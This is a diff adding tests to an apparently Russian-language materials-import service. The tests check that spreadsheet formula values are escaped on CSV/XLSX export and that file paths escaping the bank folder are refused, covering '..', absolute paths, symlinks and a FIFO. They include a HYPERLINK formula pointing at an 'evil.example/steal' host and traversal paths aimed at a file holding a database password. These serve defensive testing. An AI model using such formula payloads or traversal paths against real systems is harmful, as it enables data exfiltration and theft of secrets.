@@ -1,7 +1,8 @@
+import { execFileSync, spawnSync } from 'node:child_process';
 import fs from 'node:fs/promises';
 import os from 'node:os';
 import path from 'node:path';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
 import * as fixtures from '../../test/file-fixtures.ts';
 import { buildLevel, buildOrganization, buildPerson, buildSubject } from '../../test/factories.ts';
 import { useTestApp } from '../../test/harness.ts';
@@ -105,6 +106,31 @@ describe('import', () => {
     expect(await app.em().count(Material, {})).toBe(total);
   });
 
+  it('exports cells beginning with = + - @ to CSV as text (a leading apostrophe) and imports them back unchanged, an apostrophe of the data included', async () => {
+    const hostile = {
+      title: '=HYPERLINK("http://evil.example/steal","Открыть")',
+      summary: "'=уже с апострофом в данных",
+      body: '@SUM(1+1)',
+      source: '+7 (913) 000-00-00',
+      url: '-2+3',
+    };
+    await run('hostile.jsonl', line({ externalId: '-formula-1', kind: 'PUBLICATION', ...hostile }));
+    for (const format of ['csv', 'xlsx'] as const) {
+      const out = path.join(dir, `hostile-${format}`, `bank.${format}`);
+      await fs.mkdir(path.dirname(out), { recursive: true });
+      await exportMaterials(app.orm, app.files.config.storage, out, format);
+      if (format === 'csv') {
+        const row = (await fs.readFile(out, 'utf8')).split('\r\n').find((l) => l.includes('evil.example'))!;
+        const start = `'-formula-1;PUBLICATION;PUBLISHED;"'=HYPERLINK(""http://evil.example/steal"",""Открыть"")";''=уже с апострофом в данных;'@SUM(1+1);`;
+        expect(row.slice(0, start.length)).toBe(start);
+        expect(row).toContain(";'+7 (913) 000-00-00;");
+      }
+      const again = await new ImportService(app.orm, app.files.config, { dryRun: false, baseDir: path.dirname(out) }).run(await readImportFile(out));
+      expect(JSON.stringify(again.lines.filter((l) => l.outcome !== 'unchanged'))).toBe('[]');
+      expect(await app.em().findOneOrFail(Material, { externalId: '-formula-1' })).toMatchObject(hostile);
+    }
+  });
+
   it('matches names by surname and initials in either order, ignoring case and ё', () => {
     expect(personKeys('Сёмина Анна Петровна').initials).toBe(personKeys('семина а.п.').initials);
     expect(personKeys('А. П. Семина').initials).toBe(personKeys('Семина Анна Петровна').initials);
@@ -128,7 +154,95 @@ describe('import', () => {
       await connection.execute('drop trigger refuse_title on material; drop function refuse_title()');
     }
   });
+});
 
+describe('import: files named by a bank stay inside its folder', () => {
+  /**
+   * A bank in a folder of its own, a secret file beside that folder (what an attacker wants), and
+   * every way a line might reach it: `..`, an absolute path, a symlink to the file, a symlink to a
+   * folder outside; and things that are not files (a folder, a FIFO).
+   */
+  async function layout() {
+    const root = await fs.mkdtemp(path.join(os.tmpdir(), 'kb-bank-'));
+    const bank = path.join(root, 'bank');
+    await fs.mkdir(path.join(bank, 'files', 'folder'), { recursive: true });
+    await fs.writeFile(path.join(root, 'secret.txt'), 'DB_PASSWORD=тайна-сервера\n');
+    await fs.writeFile(path.join(bank, 'files', 'plan.pdf'), await fixtures.pdf(['Конспект урока из банка']));
+    await fs.symlink('plan.pdf', path.join(bank, 'files', 'alias.pdf'));
+    await fs.symlink(path.join(root, 'secret.txt'), path.join(bank, 'files', 'secret-link.txt'));
+    await fs.symlink(root, path.join(bank, 'outside'));
+    execFileSync('mkfifo', [path.join(bank, 'files', 'pipe.txt')]);
+    const lines: Array<[string, string]> = [
+      ['up', '../secret.txt'],
+      ['absolute', path.join(root, 'secret.txt')],
+      ['file-link', 'files/secret-link.txt'],
+      ['folder-link', 'outside/secret.txt'],
+      ['folder', 'files/folder'],
+      ['fifo', 'files/pipe.txt'],
+      ['inside', 'files/plan.pdf'],
+      ['inside-link', 'files/alias.pdf'],
+    ];
+    const file = path.join(bank, 'bank.jsonl');
+    await fs.writeFile(file, lines.map(([id, p]) => line({ externalId: `path-${id}`, kind: 'METHODOLOGICAL_MATERIAL', title: `Материал ${id}`, files: [{ path: p }] })).join('\n'));
+    return { root, bank, file };
+  }
+  const importBank = async (file: string, dryRun: boolean) => new ImportService(app.orm, app.files.config, { dryRun, baseDir: path.dirname(file) }).run(await readImportFile(file));
+
+  it('refuses a path out of the folder (.., absolute, symlinks out), a folder and a FIFO, naming line and field; attaches only files inside', async () => {
+    const { root, file } = await layout();
+    try {
+      const summary = await importBank(file, false);
+      const reasons = Object.fromEntries(summary.lines.map((l) => [l.externalId, `${l.line} ${l.field}: ${l.reason}`]));
+      expect(reasons).toEqual({
+        'path-up': '1 files[0].path: путь «../secret.txt» ведёт за пределы папки файла импорта',
+        'path-absolute': `2 files[0].path: абсолютный путь «${path.join(root, 'secret.txt')}» не принимается: укажите путь относительно файла импорта`,
+        'path-file-link': '3 files[0].path: путь «files/secret-link.txt» ведёт за пределы папки файла импорта',
+        'path-folder-link': '4 files[0].path: путь «outside/secret.txt» ведёт за пределы папки файла импорта',
+        'path-folder': '5 files[0].path: «files/folder» — не обычный файл (папка, канал или устройство)',
+        'path-fifo': '6 files[0].path: «files/pipe.txt» — не обычный файл (папка, канал или устройство)',
+      });
+      expect(summary).toMatchObject({ created: 2, failed: 6 });
+      // The secret is nowhere in the store; the two lines inside share one stored copy of the plan.
+      const stored = await app.em().getConnection().execute<Array<{ file_name: string }>>(
+        `select distinct f.file_name from media_file f join material_file a on a.file_id = f.id join material m on m.id = a.material_id where m.external_id like 'path-%'`,
+      );
+      expect(stored.map((r) => r.file_name)).toEqual(['plan.pdf']);
+      expect(await app.em().count(Material, { externalId: { $like: 'path-%' } })).toBe(2);
+    } finally {
+      await fs.rm(root, { recursive: true, force: true });
+    }
+  });
+
+  it('says the same in a dry run whether or not the file outside the folder exists', async () => {
+    const { root, file } = await layout();
+    try {
+      const withSecret = await importBank(file, true);
+      await fs.rm(path.join(root, 'secret.txt'));
+      const withoutSecret = await importBank(file, true);
+      expect(withoutSecret).toEqual(withSecret);
+      expect(withSecret.failed).toBe(6);
+    } finally {
+      await fs.rm(root, { recursive: true, force: true });
+    }
+  });
+
+  it('npm run kb -- import refuses a bank line that names a file outside its folder and exits 1', async () => {
+    const { root, file } = await layout();
+    try {
+      const meili = inject('meili');
+      const result = spawnSync(process.execPath, ['--import', 'tsx', 'server/src/cli.ts', 'import', file, '--dry-run'], {
+        cwd: path.resolve(import.meta.dirname, '../../../..'),
+        encoding: 'utf8',
+        env: { ...process.env, NODE_ENV: '', LOG_LEVEL: 'warn', DATA_DIR: path.join(root, 'data'), DATABASE_URL: app.orm.config.get('clientUrl')!, MEILI_URL: meili.url, MEILI_MASTER_KEY: meili.apiKey ?? '' },
+      });
+      expect(result.stdout).toContain('с ошибками 6');
+      expect(result.stdout).toContain('строка 1 (path-up): files[0].path — путь «../secret.txt» ведёт за пределы папки файла импорта');
+      expect(result.stdout).toContain('строка 3 (path-file-link): files[0].path — путь «files/secret-link.txt» ведёт за пределы папки файла импорта');
+      expect(result.status).toBe(1);
+    } finally {
+      await fs.rm(root, { recursive: true, force: true });
+    }
+  });
 });
 
 async function write(name: string, bytes: Buffer) {
